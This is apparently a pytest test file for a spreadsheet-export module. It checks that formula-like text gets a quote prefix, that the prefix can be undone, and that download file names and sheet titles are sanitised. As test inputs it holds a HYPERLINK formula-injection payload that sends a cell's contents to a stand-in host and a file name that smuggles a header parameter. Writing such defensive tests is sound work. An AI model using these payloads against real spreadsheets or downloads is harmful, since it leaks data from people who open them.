"""The formula neutralisation every export uses (issue 13, finding 6)."""

from decimal import Decimal

import pytest

from srb_project.spreadsheet import inert, inert_row, restore, safe_filename, sheet_title

EVIL = '=HYPERLINK("http://evil.invalid/?x="&A1;"x")'


@pytest.mark.parametrize("text", [EVIL, "+1", "-2", "@SUM(1)", "\t=1", "\r=1", "=1+1"])
def test_text_that_a_spreadsheet_would_run_gets_the_quote_prefix(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", [-2, 12, 1.5, Decimal("-73500.00"), None, True])
def test_numbers_and_empty_cells_are_never_touched(value):
    assert inert(value) is value


@pytest.mark.parametrize("text", ["Kita Sonnenblume", "'s Gärtle", "", "12,5", "A=1", " =1"])
def test_harmless_text_stays_as_it_is(text):
    assert inert(text) == text
    assert restore(text) == text


@pytest.mark.parametrize("text", [EVIL, "+1", "-2", "@SUM(1)", "\t=1", "'=1", "''-x", "'s", "x"])
def test_restore_undoes_exactly_what_inert_did(text):
    assert restore(inert(text)) == text


def test_inert_row_keeps_numbers_and_prefixes_text():
    assert inert_row(["=1", 5, None, "Kita"]) == ["'=1", 5, None, "Kita"]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("erhebung-2027", "erhebung-2027"),
        ("erhebung-20\r\n27", "erhebung-20_27"),
        ('erhebung-"x"; filename=evil.exe', "erhebung-_x_filename_evil.exe"),
        ("\r\n", "export"),
    ],
)
def test_download_file_names_cannot_break_the_header(name, expected):
    assert safe_filename(name) == expected


def test_sheet_titles_lose_characters_excel_refuses():
    assert sheet_title("Erhebung 20:27/\r\n[x]") == "Erhebung 20-27----x-"
    assert len(sheet_title("x" * 40)) == 31
